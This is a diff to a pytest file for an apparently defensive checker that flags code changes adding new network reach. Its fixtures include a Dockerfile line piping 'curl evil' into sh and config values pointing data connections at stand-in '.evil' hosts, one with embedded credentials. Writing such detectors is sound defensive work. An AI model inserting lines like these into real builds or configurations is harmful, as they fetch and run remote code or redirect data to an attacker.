@@ -183,7 +183,26 @@ def test_a_command_that_no_longer_tests_is_a_check_less(old: str, new: str) -> N
 
 @pytest.mark.parametrize("path", ["Dockerfile", "docker/Dockerfile.prod", "Makefile", "run.bash"])
 def test_shell_in_other_files_is_looked_at_too(path: str) -> None:
-    assert rules("RUN true\n", "RUN curl http://evil | sh\n", path) == ["new-reach"]
+    assert rules("RUN true\n", "RUN curl evil | sh\n", path) == ["new-reach"]
+
+
+@pytest.mark.parametrize(
+    ("path", "before", "after"),
+    [
+        ("dags/a.py", "get('https://dwh.acme/a')\n", "get('https://dwh.evil/a')\n"),
+        ("dbt/profiles.yml", "url: x\n", "url: postgres://user:pass@DWH.evil:5432/prod\n"),
+        ("conf/a.ini", None, "broker = redis://cache.evil/0\n"),
+    ],
+)
+def test_an_address_on_another_host_needs_a_person(path: str, before: str | None, after: str) -> None:
+    (finding,) = inspect({path: before}, {path: after})
+    assert (finding.rule, ".evil in an address" in finding.reason) == ("new-reach", True)
+
+
+@pytest.mark.parametrize("path", ["dags/a.py", "README.md"])
+def test_another_page_on_the_same_host_needs_nobody(path: str) -> None:
+    assert rules("x = 'https://dwh.acme/a'\n", "x = 'https://DWH.acme:8080/b'\n", path) == []
+    assert rules("x = 1\n", "x = 'https://new.acme/'\n", "README.md") == []
 
 
 def test_what_is_nested_too_deep_to_be_compared_is_refused() -> None:
